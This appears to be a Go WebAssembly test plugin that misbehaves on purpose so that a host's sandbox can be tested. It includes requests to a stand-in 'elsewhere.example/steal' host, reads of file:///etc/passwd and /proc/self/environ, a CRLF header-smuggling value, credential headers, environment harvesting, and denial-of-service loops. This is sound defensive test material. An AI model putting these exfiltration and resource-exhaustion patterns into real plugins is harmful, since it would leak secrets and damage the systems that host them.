//go:build wasip1

// Command hostile is a plugin that breaks every rule: the tests of the host build it and ask it for one misdeed at a
// time. It speaks to the host without the kit, which would not let it misbehave so.
package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"strings"
	"time"
	"unsafe"
)

//go:wasmimport muster take
func take(ptr unsafe.Pointer, size uint32)

//go:wasmimport muster take_body
func takeBody(ptr unsafe.Pointer, size uint32)

//go:wasmimport muster give
func give(ptr unsafe.Pointer, size uint32)

//go:wasmimport muster give
func giveAt(ptr uint32, size uint32)

//go:wasmimport muster http
func http(head unsafe.Pointer, headSize uint32, body unsafe.Pointer, bodySize uint32) uint32

//go:wasmimport muster http
func httpAt(head, headSize, body, bodySize uint32) uint32

//go:wasmimport muster log
func log(level uint32, ptr unsafe.Pointer, size uint32)

// start is set by the linker: a misdeed before anybody asked.
var start string

func init() {
	switch start {
	case "loop":
		for {
			spin++
		}
	case "http":
		ask(`{"url":"/"}`)
	}
}

func main() {}

var (
	spin  int
	hoard [][]byte
	calls int
)

func say(s string) {
	b := []byte(s)
	give(unsafe.Pointer(&b[0]), uint32(len(b)))
}

// ask sends a request and returns the head of the answer.
func ask(head string) string {
	b := []byte(head)
	n := http(unsafe.Pointer(&b[0]), uint32(len(b)), nil, 0)
	out := make([]byte, n)
	take(unsafe.Pointer(&out[0]), n)
	return string(out)
}

func person(facts string) string {
	return `{"page":{"records":[{"id":"1","facts":[` + facts + `]}]}}`
}

const smith = `{"property":"surname","source":"Smith"}`

//go:noinline
func recurse(n int) int {
	var room [64]int
	room[n%64] = n
	return recurse(n+1) + room[(n+1)%64]
}

//go:wasmexport muster_call
func call(size uint32) {
	in := make([]byte, size)
	take(unsafe.Pointer(&in[0]), size)
	var c struct {
		Op    string `json:"op"`
		Query struct {
			Terms []struct {
				Value string `json:"value"`
			} `json:"terms"`
		} `json:"query"`
	}
	if err := json.Unmarshal(in, &c); err != nil || c.Op != "search" || len(c.Query.Terms) == 0 {
		deeds[strings.ToLower(c.Op)]()
		return
	}
	calls++
	deeds[strings.ToLower(c.Query.Terms[0].Value)]()
}

var deeds map[string]func()

func init() {
	deeds = map[string]func(){
		"good": func() { ask(`{"url":"/"}`); say(person(smith)) },
		"loop": func() {
			for {
				spin++
			}
		},
		"memory": func() {
			for {
				b := make([]byte, 1<<20)
				b[0] = 1
				hoard = append(hoard, b)
			}
		},
		"huge":    func() { hoard = append(hoard, make([]byte, 1<<30)) },
		"recurse": func() { spin = recurse(1) },
		"goroutines": func() {
			for {
				go func() { select {} }()
			}
		},
		"busy": func() { // goroutines that go on after the answer
			for range 1000 {
				go func() {
					for {
						spin++
					}
				}()
			}
			ask(`{"url":"/"}`)
			say(person(smith))
		},
		"exit":     func() { os.Exit(0) },
		"exit7":    func() { os.Exit(7) },
		"panic":    func() { panic("the name is Smith") },
		"null":     func() { var p *int; *p = 1 },
		"sleep":    func() { time.Sleep(time.Hour) },
		"deadlock": func() { select {} },
		"undeclared": func() {
			ask(`{"url":"https://elsewhere.example/steal"}`)
			say(`{"page":{"records":[]}}`) // and hides that it was refused
		},
		"plain":      func() { ask(`{"url":"http://elsewhere.example/steal"}`); say(`{"page":{"records":[]}}`) },
		"file":       func() { ask(`{"url":"file:///etc/passwd"}`); say(`{"page":{"records":[]}}`) },
		"delete":     func() { ask(`{"method":"DELETE","url":"/"}`); say(person(smith)) },
		"method":     func() { ask(`{"method":"CONNECT","url":"/"}`); say(person(smith)) },
		"credential": func() { ask(`{"url":"/","headers":{"authorization":"Bearer x"}}`); say(person(smith)) },
		"smuggle":    func() { ask(`{"url":"/","headers":{"X-A":"1\r\nHost: elsewhere"}}`); say(person(smith)) },
		"many": func() {
			for range 10000 {
				ask(`{"url":"/"}`)
			}
			say(person(smith))
		},
		"failing":  func() { ask(`{"url":"/500"}`); say(`{"page":{"records":[]}}`) },
		"partly":   func() { ask(`{"url":"/500"}`); ask(`{"url":"/"}`); say(person(smith)) },
		"offline":  func() { say(person(smith)) },
		"big":      func() { say(`"` + strings.Repeat("x", 9<<20) + `"`) },
		"garbage":  func() { say("}{ Smith") },
		"member":   func() { say(`{"page":{"records":[],"wish":1}}`) },
		"retyped":  func() { say(`{"page":{"records":"Smith"}}`) },
		"trailing": func() { say(`{"page":{"records":[]}} {}`) },
		"deep":     func() { say(strings.Repeat("[", 1<<20)) },
		"wrong":    func() { say(`{"identity":{}}`) },
		"kind":     func() { say(`{"error":{"kind":"fine"}}`) },
		"noid":     func() { ask(`{"url":"/"}`); say(`{"page":{"records":[{"id":"","facts":[` + smith + `]}]}}`) },
		"danger":   func() { ask(`{"url":"/"}`); say(person(smith + `,{"property":"warning","source":""}`)) },
		"nothing":  func() {},
		"twice":    func() { ask(`{"url":"/"}`); say(person(smith)); say(person(smith)) },
		"pointer":  func() { giveAt(0xfffffff0, 0x40) },
		"length":   func() { giveAt(0, 0xffffffff) },
		"httpptr":  func() { httpAt(0xfffffff0, 0x40, 0, 0) },
		"httpbody": func() { httpAt(0, 0, 0xffff0000, 0x10000) },
		"takeptr": func() {
			b := []byte(`{"url":"/"}`)
			n := http(unsafe.Pointer(&b[0]), uint32(len(b)), nil, 0)
			take(unsafe.Pointer(uintptr(0xfffffff0)), n)
		},
		"takelong": func() { b := make([]byte, 99999); take(unsafe.Pointer(&b[0]), 99999) },
		"takebody": func() { b := make([]byte, 9); takeBody(unsafe.Pointer(&b[0]), 9) },
		"flood": func() {
			line := []byte(strings.Repeat("Flood ", 1000))
			for range 20000 {
				log(2, unsafe.Pointer(&line[0]), uint32(len(line)))
				fmt.Println("out", string(line[:100]))
				fmt.Fprint(os.Stderr, string(line[:200]))
			}
			ask(`{"url":"/"}`)
			say(person(smith))
		},
		"computer": func() { // what it can learn of the computer it runs on
			var found []string
			for _, path := range []string{"/etc/passwd", ".", "/", "C:\\", "/proc/self/environ"} {
				if _, err := os.ReadFile(path); err == nil {
					found = append(found, "read "+path)
				}
				if _, err := os.ReadDir(path); err == nil {
					found = append(found, "list "+path)
				}
			}
			if os.WriteFile("/tmp/hostile", []byte("x"), 0o600) == nil {
				found = append(found, "wrote a file")
			}
			if c, err := net.Dial("tcp", "127.0.0.1:80"); err == nil {
				found = append(found, "dialled")
				c.Close()
			}
			if l, err := net.Listen("tcp", "127.0.0.1:0"); err == nil {
				if c, err := net.Dial("tcp", l.Addr().String()); err == nil {
					_ = c // the guest's own pretence of a network within itself
				}
			}
			found = append(found, os.Environ()...)
			found = append(found, os.Args...)
			if h, err := os.Hostname(); err == nil && h != "wasip1" { // Go's word for not knowing
				found = append(found, "host "+h)
			}
			ask(`{"url":"/"}`)
			b, _ := json.Marshal("found: " + strings.Join(found, "; ") + " at " + time.Now().UTC().Format(time.RFC3339))
			say(person(smith + `,{"property":"occupation","source":` + string(b) + `}`))
		},
		"remember": func() {
			ask(`{"url":"/"}`)
			say(person(smith + fmt.Sprintf(`,{"property":"occupation","source":"call %d"}`, calls)))
		},
		"submit": func() { // writes, and then breaks down
			ask(`{"method":"POST","url":"/"}`)
			os.Exit(1)
		},
		"confirm": func() { say(`{"error":{"kind":"notfound","say":"It is not there."}}`) }, // without asking
		"check":   func() { say(`{"identity":{"user":"nobody"}}`) },                         // without asking
	}
}
